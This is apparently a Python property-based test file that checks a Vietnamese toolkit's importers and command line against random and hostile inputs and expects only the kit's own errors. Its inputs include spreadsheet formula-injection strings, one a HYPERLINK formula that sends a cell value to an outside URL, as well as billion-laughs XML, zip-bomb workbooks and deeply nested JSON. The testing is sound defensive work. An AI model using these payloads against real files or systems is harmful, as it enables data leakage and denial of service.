"""Property-based tests: whatever a person gives an importer (random bytes, random CSV text,
random nested JSON, files that are structured but wrong), the only failures are the kit's own
(:class:`~kit.core.errors.KitError` and per-row problems), never an unhandled exception; and 200
generated hostile inputs run through the command line (``kit.cli.main``) end with exit code 0,
1 or 2 and no traceback, a handful of them through the real ``kit`` program too.

Hypothesis runs derandomized (the same examples on every run, so CI is stable), with a number of
examples chosen to keep this file under a minute."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

from kit.assessment.analyzer.analyze import analyze_file, analyze_text
from kit.assessment.collection.sheets import read_units_data
from kit.assessment.questionnaire.saved import read_saved
from kit.assessment.questionnaire.schema import load_questionnaire
from kit.core.errors import KitError
from kit.core.files import load_json
from kit.eligibility.batch import contract, decide
from kit.plans.files import parse_plan
from kit.workshops.responses import read_responses
from tests import hostile_files as h

set_hypothesis_home_dir(tempfile.mkdtemp(prefix="kit-hypothesis-"))  # not in the work tree
FAST = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,  # nothing written into the work tree
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
FIELDS = list(load_questionnaire().fields())
HOSTILE = ("=1+1", '=HYPERLINK("http://x/?a="&B2,"Xem")', "+1", "-1", "@A1", "\t=1", "\r=1")
WORDS = (
    "Có",
    "Không",
    "có",
    "x",
    "10/05/2024",
    "2024-13-45",
    "31/02/2024",
    "Toàn tỉnh",
    "Nghị quyết HĐND tỉnh",
    "nan",
    "NaN",
    "inf",
    "-inf",
    "1e309",
    "-1",
    "0",
    "99999999999999999999999",
    "1,5",
    "pre",
    "post",
    "",
    " ",
    "\x00",
    "\u202e",
)
texts = st.one_of(
    st.text(max_size=30), st.sampled_from(HOSTILE), st.sampled_from(WORDS), st.just("x" * 5_000)
)
#: values at the edges, drawn often (Hypothesis alone seldom reaches NaN inside a mapping)
NASTY = (
    float("nan"),
    float("inf"),
    float("-inf"),
    1e308,
    -1e308,
    5e-324,
    -0.0,
    2**53 + 1,
    10**30,
    -(10**30),
    True,
    False,
    None,
    [],
    {},
    [None],
    {"score": float("nan"), "reason": None},
)
scalars = st.one_of(
    st.sampled_from(NASTY),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    texts,
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=25,
)


def only_kit_errors(call: Callable[[], object]) -> None:
    """Run ``call``: it may succeed or raise a KitError whose messages are short; nothing else."""
    try:
        call()
    except KitError as err:
        assert isinstance(err.vi, str) and isinstance(err.en, str)
        assert len(err.vi) < 20_000 and "Traceback" not in err.vi


def csv_bytes(rows: list[list[str]], delimiter: str) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue().encode("utf-8")


HEADS = {
    "eligibility": list(contract.INPUT_HEADERS),
    "assessment": FIELDS,
    "responses": ["trainee", "item", "score", "max", "phase"],
}
READERS: dict[str, Callable[[bytes, str], object]] = {
    "eligibility": lambda d, n: decide.run_batch(d, n),
    "assessment": lambda d, n: read_units_data(d, n),
    "responses": read_responses,
}


@st.composite
def tables(draw: st.DrawFn) -> tuple[str, list[list[str]]]:
    """A table for one of the importers: its header row, maybe, then rows of hostile cells."""
    kind = draw(st.sampled_from(sorted(HEADS)))
    rows = draw(st.lists(st.lists(texts, max_size=len(HEADS[kind]) + 2), max_size=8))
    if draw(st.booleans()):
        rows.insert(draw(st.integers(0, len(rows))), HEADS[kind])
    return kind, rows


def cell_xml(ref: str, kind: str, value: str, formula: bool) -> bytes:
    safe = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    safe = "".join(ch for ch in safe if ch in "\t\n\r" or ord(ch) >= 32)  # what XML allows
    inner = f"<f>{safe}</f>" if formula else ""
    if kind == "inlineStr":
        inner += f"<is><t>{safe}</t></is>"
    elif value or not formula:
        inner += f"<v>{safe}</v>"
    return f'<c r="{ref}" t="{kind}">{inner}</c>'.encode()


@st.composite
def sheets(draw: st.DrawFn) -> tuple[str, bytes]:
    """A workbook whose sheet is structured but wrong: odd references, types and values."""
    kind = draw(st.sampled_from(sorted(HEADS)))
    rows = [h.row(1, HEADS[kind])] if draw(st.booleans()) else []
    refs = st.one_of(
        st.sampled_from(["A2", "B3", "C2", "XFD4", "AAAA5", "A0", "", "ZZ99999999", "a1", "1A"]),
        st.from_regex(r"[A-Z]{1,3}[0-9]{1,4}", fullmatch=True),
    )
    kinds = st.sampled_from(["n", "s", "b", "d", "e", "str", "inlineStr", "zz"])
    for number in draw(st.lists(st.sampled_from(["2", "3", "", "x", "0", "-1"]), max_size=4)):
        drawn = draw(st.lists(st.tuples(refs, kinds, texts, st.booleans()), max_size=6))
        cells = b"".join(cell_xml(ref, k, v, f) for ref, k, v, f in drawn)
        start = b'<row r="%s">' % number.encode() if number else b"<row>"
        rows.append(start + cells + b"</row>")
    return kind, h.xlsx(b"".join(h.sheet(rows)))


# ---------------------------------------------------------------------- importers


@FAST
@given(data=st.binary(max_size=3_000), suffix=st.sampled_from([".xlsx", ".csv", ".json", ".xlsm"]))
def test_random_bytes_give_only_the_kits_errors_in_every_sheet_importer(
    data: bytes, suffix: str
) -> None:
    for kind, reader in READERS.items():
        if suffix == ".json" and kind != "assessment":
            continue
        only_kit_errors(lambda r=reader: r(data, f"tep{suffix}"))  # type: ignore[misc]


@FAST
@given(table=tables(), delimiter=st.sampled_from([",", ";", "\t", "|"]), bom=st.booleans())
def test_random_csv_text_gives_only_the_kits_errors(
    table: tuple[str, list[list[str]]], delimiter: str, bom: bool
) -> None:
    kind, rows = table
    data = (b"\xef\xbb\xbf" if bom else b"") + csv_bytes(rows, delimiter)
    only_kit_errors(lambda: READERS[kind](data, "bang.csv"))


@FAST
@given(table=tables())
def test_a_workbook_of_random_cells_gives_only_the_kits_errors(
    table: tuple[str, list[list[str]]],
) -> None:
    kind, rows = table
    data = h.table_xlsx(rows)
    only_kit_errors(lambda: READERS[kind](data, "bang.xlsx"))


@FAST
@given(sheet=sheets())
def test_a_structured_but_wrong_sheet_gives_only_the_kits_errors(sheet: tuple[str, bytes]) -> None:
    kind, data = sheet
    for reader in READERS.values():
        only_kit_errors(lambda r=reader: r(data, "sai.xlsx"))  # type: ignore[misc]
    del kind


@FAST
@given(value=json_values)
def test_random_json_gives_only_the_kits_errors(value: object) -> None:
    text = json.dumps(value)
    only_kit_errors(lambda: load_json(text, "a.json"))
    only_kit_errors(lambda: read_units_data(text.encode(), "a.json"))
    only_kit_errors(lambda: parse_plan(text, "PLAN.json"))
    only_kit_errors(lambda: read_saved(value, "a.json"))


@FAST
@given(
    unit=st.dictionaries(st.sampled_from(FIELDS[:12]) | texts, json_values, max_size=8),
    answers=st.dictionaries(st.sampled_from(FIELDS) | texts, json_values, max_size=12),
    extra=st.dictionaries(
        st.sampled_from(["assessments", "agreed", "notes", "version"]), json_values, max_size=3
    ),
)
def test_a_saved_assessment_with_wrong_values_gives_only_the_kits_errors(
    unit: dict[str, object], answers: dict[str, object], extra: dict[str, object]
) -> None:
    saved = {"format": "kit-assessment", "version": 1, "unit": unit, "answers": answers} | extra
    data = json.dumps(saved).encode()
    only_kit_errors(lambda: read_units_data(data, "don-vi.json"))


PLAN_KEYS = ("schema_version", "shape", "level", "header", "sections", "tasks", "drafts")


@FAST
@given(plan=st.dictionaries(st.sampled_from(PLAN_KEYS) | texts, json_values, max_size=6))
def test_a_plan_with_wrong_parts_gives_only_the_kits_errors(plan: dict[str, object]) -> None:
    only_kit_errors(lambda: parse_plan(json.dumps(plan), "PLAN.json"))


@FAST
@given(
    text=st.text(max_size=3_000),
    data=st.binary(max_size=2_000),
    paragraphs=st.lists(texts, max_size=20),
)
def test_a_report_of_random_text_bytes_or_paragraphs_gives_only_the_kits_errors(
    text: str, data: bytes, paragraphs: list[str]
) -> None:
    only_kit_errors(lambda: analyze_text(text))
    for name in ("bao-cao.txt", "bao-cao.docx"):
        only_kit_errors(lambda n=name: analyze_file(data, n))  # type: ignore[misc]
    document = h.docx(b"".join(h.paragraph(p.replace("\x00", "")) for p in paragraphs))
    only_kit_errors(lambda: analyze_file(document, "bao-cao.docx"))
    only_kit_errors(lambda: analyze_file("\n".join(paragraphs).encode(), "bao-cao.txt"))


@FAST
@given(value=json_values)
def test_any_answer_to_any_kind_of_exercise_gives_only_the_kits_errors(value: object) -> None:
    from kit.content.catalogue import load_catalogue
    from kit.grading.answers import coerce

    kinds = {type(i).__name__: i for i in load_catalogue().items.values()}
    for item in kinds.values():
        only_kit_errors(lambda i=item: coerce(i, value))  # type: ignore[misc]


# ---------------------------------------------------------------------- the command line


def hostile_file(kind: str, seed: bytes) -> bytes:
    """A hostile file of one kind, varied by ``seed``."""
    n = len(seed)
    if kind == "bytes":
        return seed
    if kind == "deep-json":
        return h.deep_json(65 + n * 1_000).encode()
    if kind == "laughs-xlsx":
        return h.xlsx(b"".join(h.sheet([], prolog=h.LAUGHS)))
    if kind == "laughs-docx":
        return h.docx(b"<w:p/>", prolog=h.LAUGHS)
    if kind == "bomb-xlsx":
        return h.xlsx(h.zeros(2 + n % 3))
    if kind == "formula-xlsx":
        return h.table_xlsx([HEADS["responses"], ["An", "c1", b"<f>1+1</f><v></v>", 1, "pre"]])
    if kind == "json":  # a saved file with edge values in some fields
        answers = {FIELDS[b % len(FIELDS)]: NASTY[b % len(NASTY)] for b in seed[:8]}
        saved = {"format": "kit-assessment", "version": 1, "answers": answers}
        return json.dumps(saved).encode()
    if kind == "csv":  # a table with a header each importer knows and edge values
        head = HEADS["eligibility"] + HEADS["responses"] + FIELDS
        cells = [str(NASTY[b % len(NASTY)]) if b % 3 else WORDS[b % len(WORDS)] for b in seed]
        return csv_bytes([head, cells or [seed.decode("latin-1")]], ",")
    return b"\r\n" * (n * 10_000)  # blank lines


COMMANDS = (
    ("eligibility", "batch", "{f}.xlsx", "-o", "{out}.xlsx"),
    ("eligibility", "batch", "{f}.csv", "-o", "{out}.xlsx"),
    ("eligibility", "explain", "{f}.json"),
    ("plan", "check", "{f}.json"),
    ("plan", "export", "{f}.json", "-o", "{out}.docx"),
    ("assess", "score", "{f}.json"),
    ("assess", "score", "{f}.xlsx"),
    ("assess", "score", "{f}.csv"),
    ("assess", "report", "{f}.json", "-o", "{out}.docx"),
    ("assess", "rollup", "{f}.json", "{f}.xlsx", "-o", "{out}.xlsx"),
    ("assess", "analyze", "{f}.docx"),
    ("assess", "analyze", "{f}.txt"),
    ("workshop", "stats", "{f}.csv"),
    ("workshop", "stats", "{f}.xlsx"),
    ("exercise", "grade", "{item}", "--answer", "{answer}"),
)
KINDS = (
    "bytes",
    "deep-json",
    "laughs-xlsx",
    "laughs-docx",
    "bomb-xlsx",
    "formula-xlsx",
    "json",
    "csv",
    "blank-lines",
)


def run_cli(argv: list[str]) -> tuple[int, str]:
    from kit.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exit_:  # argparse: wrong usage
            code = exit_.code if isinstance(exit_.code, int) else 2
    return code, out.getvalue() + err.getvalue()


def argv_for(command: tuple[str, ...], folder: Path, content: bytes, answer: str) -> list[str]:
    stem = folder / "tep"
    for suffix in (".xlsx", ".csv", ".json", ".docx", ".txt"):
        stem.with_suffix(suffix).write_bytes(content)
    item = "l01-ex-01"
    return [
        part.format(f=stem, out=folder / "ket-qua", item=item, answer=answer) for part in command
    ]


@settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    database=None,  # nothing written into the work tree
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    command=st.sampled_from(COMMANDS),
    kind=st.sampled_from(KINDS),
    seed=st.binary(min_size=0, max_size=64),
    answer=texts,
)
def test_200_hostile_inputs_through_the_command_line_end_cleanly(
    command: tuple[str, ...], kind: str, seed: bytes, answer: str
) -> None:
    with tempfile.TemporaryDirectory(prefix="kit-hostile-") as tmp:
        argv = argv_for(command, Path(tmp), hostile_file(kind, seed), answer.replace("\x00", ""))
        code, output = run_cli(argv)
    assert code in (0, 1, 2), (argv, code, output[-2_000:])
    assert "Traceback" not in output


KIT = Path(sys.executable).parent / "kit"


@pytest.mark.skipif(not KIT.exists(), reason="the kit program is not installed beside Python")
@pytest.mark.parametrize(
    ("command", "kind"),
    [
        (COMMANDS[0], "bomb-xlsx"),
        (COMMANDS[3], "deep-json"),
        (COMMANDS[5], "deep-json"),
        (COMMANDS[10], "laughs-docx"),
        (COMMANDS[13], "formula-xlsx"),
    ],
)
def test_hostile_inputs_through_the_real_kit_program(
    command: tuple[str, ...], kind: str, tmp_path: Path
) -> None:
    argv = argv_for(command, tmp_path, hostile_file(kind, b"seed"), "x")
    done = subprocess.run(
        [str(KIT), *argv], capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL
    )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    expected = {"formula-xlsx": "công thức chưa được tính", "laughs-docx": "DOCTYPE"}
    assert expected.get(kind, "quá giới hạn") in done.stderr
